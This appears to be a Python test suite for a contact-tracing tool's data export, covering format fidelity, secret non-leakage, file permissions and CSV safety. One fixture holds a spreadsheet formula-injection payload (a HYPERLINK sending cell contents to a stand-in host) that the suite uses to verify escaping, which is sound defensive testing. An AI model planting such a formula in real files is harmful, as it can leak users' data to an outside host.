"""``export``: all of the owner's data as tables, of one moment, and not a single secret."""

from __future__ import annotations

import base64
import codecs
import csv
import json
import os
import sqlite3
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, date, datetime
from pathlib import Path
from shutil import which
from typing import Any, Final

import duckdb
import openpyxl
import pytest

from bluezone_agent.actions.own_data.columns import ColumnType
from bluezone_agent.actions.own_data.rows import Bands, OwnData
from bluezone_agent.actions.own_data.tables import TABLES
from bluezone_agent.actions.own_data.write import FORMATS, table_writer, write_export
from bluezone_agent.app.device import Device
from bluezone_agent.app.own_data import export_data
from bluezone_agent.config import Config
from bluezone_agent.core.attenuation import ReceivedMinute
from bluezone_agent.core.calendars import UTC_CALENDAR
from bluezone_agent.core.calibration import Calibration
from bluezone_agent.core.identifiers import DailyKey, ReportType
from bluezone_agent.core.intervals import DAY_S, MINUTE_S
from bluezone_agent.core.notice import Notice
from bluezone_agent.core.protocols import PROTOCOLS
from bluezone_agent.core.risk import DEFAULT_MODEL, MODELS
from bluezone_agent.core.source_records import KeyFileRecord, SourceRecord
from bluezone_agent.errors import NewFileError
from bluezone_agent.stores.calibrations import MEASURED, StoredCalibration
from bluezone_agent.stores.store import Store
from bluezone_agent.stores.submission_tokens import TokenKind
from tests.exposed import received_key
from tests.present import today_s
from tests.program import Program
from tests.receiving import receive
from tests.stores.past import SCHEMAS, written_at
from tests.test_files import full_disk

TOKEN: Final = "eyJ-a-token-of-a-key-server"
PASSPHRASE: Final = "correct horse battery staple"
FORMULA: Final = '=HYPERLINK("http://a.example/?x="&A1)'
formats = pytest.mark.parametrize("name", FORMATS)


def yesterday_s() -> int:
    return today_s() - DAY_S


def key_of_yesterday(protocol: str, first_byte: int) -> DailyKey:
    known, start_s = PROTOCOLS[protocol], yesterday_s()
    data = bytes(range(first_byte, first_byte + known.key_length))
    return DailyKey(protocol, data, start_s, start_s + DAY_S, known.slots_per_day)


def own_keys() -> list[DailyKey]:
    return [key_of_yesterday("gaen", 1), key_of_yesterday("bluezone", 60)]


def their_key() -> DailyKey:
    return key_of_yesterday("gaen", 100)


@pytest.fixture
def program(program: Program) -> Program:
    """A device that knows something of everything."""
    now_s, start_s = int(time.time()), yesterday_s()
    minutes = [ReceivedMinute((start_s + 36_000) // MINUTE_S + n, 40.5 + n / 10, 4, {13: 4}) for n in range(20)]
    key = received_key("ab" * 32, ReportType.CONFIRMED_TEST, 0, start_s, minutes)
    with Store(program.state_dir) as store:
        receive(store, their_key())
        with store.transaction():
            for own in own_keys():
                store.keys.add(own, last_slot_s=start_s, exportable=True, closed=True)
            store.tokens.put("https://keys.example", TokenKind.REVISION, TOKEN, now_s)
            store.exposures.add(key)
            store.diary.add(date.fromtimestamp(start_s), FORMULA, now_s)  # noqa: DTZ012
            store.diary.add(date.fromtimestamp(start_s), 'bữa trưa, "An"', now_s)  # noqa: DTZ012
            store.notices.add(Notice("title", "two\nlines"), now_s)
            store.listening.begin(start_s, "active", utc_offset_s=7 * 3600)
            store.listening.extend(now_s - 10)
            store.sources.record(SourceRecord("https://keys.example/", now_s, now_s, notes={"etag": "kept"}))
            store.sources.record_file(KeyFileRecord("https://keys.example/", "1.zip", now_s, "cd" * 32, None, now_s))
            store.calibrations.add(
                StoredCalibration("hci0 C4:AC:59:01:02:03", "", MEASURED, Calibration(-3.5), now_s, now_s + DAY_S)
            )
    return program


def exported(program: Program, name: str, *more: str) -> Path:
    folder = program.home / f"out-{name}"
    done = program.run("export", "--to", name, folder, "--yes", *more)
    assert done.returncode == 0, done.stderr
    return folder


def read(folder: Path, name: str) -> dict[str, list[dict[str, Any]]]:
    """Read an export with another program: DuckDB, or SQLite's own library."""
    if name == "sqlite":
        with closing(sqlite3.connect(folder / "bluezone.sqlite")) as db:
            db.row_factory = sqlite3.Row
            return {t.name: [dict(row) for row in db.execute(f"SELECT * FROM {t.name}")] for t in TABLES}
    reader = {"csv": "read_csv", "parquet": "read_parquet"}[name]
    options = ", header = true" if name == "csv" else ""
    with duckdb.connect() as db:
        db.execute("SET TimeZone = 'UTC'")
        found = {}
        for table in TABLES:
            rows = db.execute(f"SELECT * FROM {reader}('{folder / table.name}.{name}'{options})")
            names = [column[0] for column in rows.description or ()]
            found[table.name] = [dict(zip(names, row, strict=True)) for row in rows.fetchall()]
        return found


def everything(folder: Path) -> bytes:
    return b"\0".join(path.read_bytes() for path in sorted(folder.iterdir()))


def spellings(secret: bytes) -> Iterator[bytes]:
    """Yield the ways in which bytes may be written: raw, in hex, in base64 at any offset, reversed, as Python does."""
    yield secret
    yield from (secret.hex().encode(), secret.hex().upper().encode(), repr(secret)[2:-1].encode())
    yield secret[::-1]
    for offset in range(3):
        for encode in (base64.b64encode, base64.urlsafe_b64encode):
            encoded = encode(bytes(offset) + secret).rstrip(b"=")
            yield encoded[offset + 1 : -2] if offset else encoded[:-2]


def identifiers(keys: list[DailyKey]) -> Iterator[bytes]:
    for key in keys:
        yield from (slot.identifier for slot in PROTOCOLS[key.protocol].slots(key))


@formats
def test_what_is_exported_is_what_is_stored(program: Program, name: str) -> None:
    with Store(program.state_dir) as store:
        count, packets, mean = store._db.execute(
            "SELECT count(*), sum(count), sum(mean_cdbm) / 100.0 FROM contact_minute"
        ).fetchone()
        stored = {
            "contact_minutes": count,
            "exposed_keys": 1,
            "publications": 1,
            "exposure_minutes": 20,
            "exposure_windows": 1,
            "diary": 2,
            "sources": 1,
            "key_files": 1,
            "notices": 1,
            "calibrations": 1,
            "own_keys": 2,
            "listening": 1,
            "contact_days": 1,
        }
        attenuation_db = store._db.execute("SELECT sum(attenuation_db) FROM exposure_minute").fetchone()[0]
    found = read(exported(program, name), name)
    assert {table: len(found[table]) for table in stored} == stored
    minutes = found["contact_minutes"]
    assert sum(int(row["packets"]) for row in minutes) == packets
    assert sum(float(row["mean_rssi_dbm"]) for row in minutes) == pytest.approx(mean)
    histograms = [json.loads(row["rssi_histogram"]) for row in minutes]
    assert sum(sum(histogram.values()) for histogram in histograms) == packets
    assert sum(float(row["attenuation_db"]) for row in found["exposure_minutes"]) == pytest.approx(attenuation_db)
    assert sum(row["person_minutes"] for row in found["contact_hours"]) == 20
    (day,) = found["contact_days"]
    assert (day["minutes"], day["persons_at_least"]) == (20, 1)
    assert len({row["device"] for row in minutes}) == 2, "ten minutes each"
    (exposure,) = found["exposure_days"]
    assert (exposure["degree"], bool(exposure["warns"])) == ("F1", True)
    texts = [row["text"] for row in found["diary"]]
    assert texts == [f"'{FORMULA}" if name == "csv" else FORMULA, 'bữa trưa, "An"']
    assert {row["name"]: row["value"] for row in found["settings"]}["protocol"] == "bluezone"


SCRIPT: Final = """
import sys, pandas
read = {"csv": pandas.read_csv, "parquet": pandas.read_parquet}[sys.argv[2]]
minutes = read(f"{sys.argv[1]}/contact_minutes.{sys.argv[2]}")
diary = read(f"{sys.argv[1]}/diary.{sys.argv[2]}")
print(len(minutes), minutes["packets"].sum(), minutes["packets"].dtype.kind, round(minutes["mean_rssi_dbm"].mean(), 6))
print(list(diary["text"]))
"""


@pytest.mark.slow
@pytest.mark.parametrize("name", ["csv", "parquet"])
def test_pandas_reads_it_with_its_types(program: Program, name: str) -> None:
    folder = exported(program, name)
    done = subprocess.run([sys.executable, "-c", SCRIPT, folder, name], capture_output=True, text=True, check=True)
    counted, texts = done.stdout.splitlines()
    minutes = read(folder, name)["contact_minutes"]
    mean_dbm = sum(float(row["mean_rssi_dbm"]) for row in minutes) / len(minutes)
    assert counted.split()[:3] == [str(len(minutes)), str(sum(int(row["packets"]) for row in minutes)), "i"]
    assert float(counted.split()[3]) == pytest.approx(mean_dbm, abs=1e-5)
    assert 'bữa trưa, "An"' in texts


@formats
def test_times_keep_the_offset_that_the_owner_had(program: Program, name: str) -> None:
    """Ten hours after midnight UTC is five in the afternoon in Vietnam."""
    row = read(exported(program, name), name)["contact_minutes"][0]
    at = row["time"] if isinstance(row["time"], datetime) else datetime.fromisoformat(row["time"])
    assert at.timestamp() == yesterday_s() + 10 * 3600
    if name == "sqlite":
        assert row["time"].endswith("T17:00:00+07:00")
    if name == "csv":
        with (program.home / "out-csv/contact_minutes.csv").open(encoding="utf-8", newline="") as file:
            assert next(csv.DictReader(file))["time"].endswith("T17:00:00+07:00")


@formats
@pytest.mark.parametrize("encrypted", [False, True])
def test_no_secret_leaves_the_device(program: Program, name: str, encrypted: bool) -> None:
    if encrypted:
        (program.home / "p").write_text(PASSPHRASE)
        assert program.run("keys", "encrypt", "--passphrase-file", "p").returncode == 0
    with Store(program.state_dir) as store:
        rows = store._db.execute("SELECT data FROM daily_key").fetchall()
        digests = [row[0] for row in store._db.execute("SELECT key_digest FROM own_key_digest")]
    own, theirs = own_keys(), their_key()
    secrets = [key.data for key in own] + [row[0] for row in rows] + [bytes.fromhex(digest) for digest in digests]
    secrets += [*identifiers(own), *identifiers([theirs]), theirs.data, TOKEN.encode(), PASSPHRASE.encode()]
    data = everything(exported(program, name))
    hits = [secret for secret in secrets for spelling in spellings(secret) if spelling in data]
    assert hits == []
    assert len(secrets) > 300
    assert b"C4:AC:59:01:02:03" not in data, "an adapter's address"
    assert b"etag" not in data


def test_a_secret_would_be_found() -> None:
    secret = own_keys()[0].data
    for text in (secret, secret.hex().encode(), *(base64.b64encode(b"x" * n + secret + b"y") for n in range(3))):
        assert any(spelling in b"a" + text + b"b" for spelling in spellings(secret))


def test_two_exports_have_no_name_in_common(program: Program) -> None:
    first, second = read(exported(program, "csv"), "csv"), read(exported(program, "parquet"), "parquet")
    for table, column in (("contact_minutes", "device"), ("exposed_keys", "key")):
        assert {row[column] for row in first[table]}.isdisjoint(row[column] for row in second[table])
    assert {row["key"] for row in first["exposure_minutes"]} == {row["key"] for row in first["exposed_keys"]}


@formats
def test_only_the_owner_can_read_it(program: Program, name: str) -> None:
    before = os.umask(0)
    try:
        folder = exported(program, name)
    finally:
        os.umask(before)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()} == {0o600}


def test_csv_is_by_rfc_4180_and_runs_nothing(program: Program) -> None:
    folder = exported(program, "csv")
    for table in TABLES:
        data = (folder / f"{table.name}.csv").read_bytes()
        assert data.count(b"\n") == data.count(b"\r\n") + (b"two\nlines" in data)
        assert data.startswith(codecs.BOM_UTF8), "else Excel can't read Vietnamese"
        for row in csv.reader(data.decode("utf-8-sig").splitlines(keepends=True)):
            assert len(row) == len(table.columns)
            for column, cell in zip(table.columns, row, strict=True):
                if column.type is ColumnType.TEXT:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    settings = dict(csv.reader((folder / "settings.csv").read_text("utf-8-sig").splitlines()))
    assert settings["tx_power_dbm"] == "'-12"
    assert settings["clock_trusted"] in {"true", "false"}, "as the configuration spells it"


@pytest.mark.slow
@pytest.mark.skipif(not which("soffice"), reason="needs LibreOffice (apt: libreoffice-calc)")
def test_libreoffice_reads_every_cell(program: Program) -> None:
    folder, read_back = exported(program, "csv"), program.home / "read back"
    utf8 = "CSV:44,34,76,1"  # separated by commas, in quotation marks, UTF-8, from the first line on
    subprocess.run(
        [
            *("soffice", "--headless", f"-env:UserInstallation=file://{program.home}/soffice", f"--infilter={utf8}"),
            *("--convert-to", "xlsx", "--outdir", str(read_back), *map(str, sorted(folder.glob("*.csv")))),
        ],
        check=True,
        capture_output=True,
    )
    for table in TABLES:
        with (folder / f"{table.name}.csv").open(encoding="utf-8-sig", newline="") as file:
            written = list(csv.reader(file))
        sheet = openpyxl.load_workbook(read_back / f"{table.name}.xlsx").worksheets[0]
        rows = list(sheet.iter_rows(values_only=True))
        assert len(rows) == len(written)
        for row, cells in zip(rows, written, strict=True):
            assert [as_written(found, cell) for found, cell in zip(row, cells, strict=True)] == cells


def as_written(found: object, cell: str) -> str:
    """Return how a cell of a spreadsheet is spelled in a CSV file."""
    if isinstance(found, datetime):  # a day
        return found.date().isoformat()
    if isinstance(found, bool):
        return str(found).lower()
    if isinstance(found, int | float):
        return cell if found == float(cell) else str(found)
    return "" if found is None else str(found)


def test_the_dictionary_explains_every_column_in_both_languages(program: Program) -> None:
    english, vietnamese = (exported(program, "csv") / "DICTIONARY.md").read_text().split("# Từ điển dữ liệu")
    for table in TABLES:
        for text in (english, vietnamese):
            section = text.split(f"## {table.name}\n")[1].split("\n## ")[0]
            assert [line.split("`")[1] for line in section.splitlines() if line.startswith("| `")] == [
                column.name for column in table.columns
            ]
    assert "(rows: 20)" in english
    assert "(số dòng: 20)" in vietnamese


@formats
@pytest.mark.parametrize("schema", SCHEMAS)
def test_a_store_of_the_past_is_exported(program: Program, schema: str, name: str, tmp_path: Path) -> None:
    path = written_at(schema, tmp_path / "old")
    done = export_data(Device(path.parent, program.config if program.config.exists() else None), tmp_path / "o", name)
    rows = {table.name: table.rows for table in done.tables}
    found = read(tmp_path / "o", name)
    assert rows == {table: len(its) for table, its in found.items()}
    assert (rows["contact_minutes"], rows["exposed_keys"]) == (106, 1)
    undated = [row for row in found["contact_minutes"] if row["time"] in (None, "")]
    with Store(path.parent) as store:
        assert len(undated) == store._db.execute("SELECT count(*) FROM undated").fetchone()[0]


def test_it_is_of_one_moment_while_an_agent_writes(program: Program) -> None:
    """Between two tables everything is deleted: the export does not notice."""
    with Store(program.state_dir) as store, Store(program.state_dir) as agent:
        with store.one_moment():
            before = list(store.diary.since())
            with agent.transaction():
                agent._db.execute("DELETE FROM diary")
                agent._db.execute("DELETE FROM contact_minute")
            assert list(store.diary.since()) == before != []
            assert store.contact_summaries.identifier_counts(0)
        assert store.diary.since() == []


@pytest.mark.parametrize("there", ["file", "link", "full", "open"])
def test_what_is_there_is_not_touched(program: Program, there: str) -> None:
    folder, other = program.home / "out", program.home / "other"
    other.mkdir(0o700)
    if there == "file":
        folder.write_text("mine")
    elif there == "link":
        folder.symlink_to(other)
    else:
        folder.mkdir(0o755 if there == "open" else 0o700)
        if there == "full":
            (folder / "mine").touch()
    done = program.run("export", "--to", "csv", folder, "--yes")
    assert done.returncode == NewFileError.exit_code
    assert str(folder) in done.stderr
    assert list(other.iterdir()) == []
    if there == "full":
        assert [path.name for path in folder.iterdir()] == ["mine"]


def test_an_empty_folder_of_ones_own_is_used(program: Program) -> None:
    (program.home / "out-csv").mkdir(0o700)
    assert (exported(program, "csv") / "diary.csv").exists()


@formats
@pytest.mark.parametrize("was_there", [False, True])
def test_a_full_disk_leaves_nothing(program: Program, name: str, was_there: bool) -> None:
    folder = program.home / "out"
    if was_there:
        folder.mkdir(0o700)
    with Store(program.state_dir) as store, store.one_moment():
        bands = Bands(-80.0, -88.0)
        data = OwnData(store, Config(), MODELS[DEFAULT_MODEL], UTC_CALENDAR, bands=bands, since_s=0)
        with full_disk(), pytest.raises(NewFileError, match="can't write the export"):
            write_export(folder, table_writer(name), data, datetime.now(UTC))
    assert list(folder.iterdir()) == [] if was_there else not folder.exists()


def test_it_asks_first_and_says_what_is_in_it(program: Program) -> None:
    code, said = program.at_terminal("export", "--to", "csv", "out", lines=["n"])
    assert code != 0
    assert "your diary" in " ".join(said.split())
    assert not (program.home / "out").exists()
    assert program.at_terminal("export", "--to", "csv", "out", lines=["y"])[0] == 0
    done = program.run("export", "--to", "csv", "elsewhere")
    assert done.returncode == 2
    assert "--yes" in done.stderr


def test_without_pyarrow_the_other_formats_are_named(program: Program) -> None:
    words = program.command("export", "--to", "parquet", "out", "--yes")[3:]
    code = (
        "import sys; sys.modules['pyarrow'] = None\n"
        f"sys.argv[1:] = {words!r}\n"
        "from bluezone_agent.__main__ import main; main()"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        env=program.environment(),
        cwd=program.home,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    assert "bluezone-agent[parquet]" in done.stderr
    assert "csv or sqlite" in done.stderr
    assert not (program.home / "out").exists()


def test_the_answer_has_a_shape(program: Program) -> None:
    done = program.run("export", "--to", "sqlite", "out", "--yes", "--json")
    found = json.loads(done.stdout)
    assert found["format"] == "sqlite"
    assert {table["name"]: table["rows"] for table in found["tables"]}["diary"] == 2
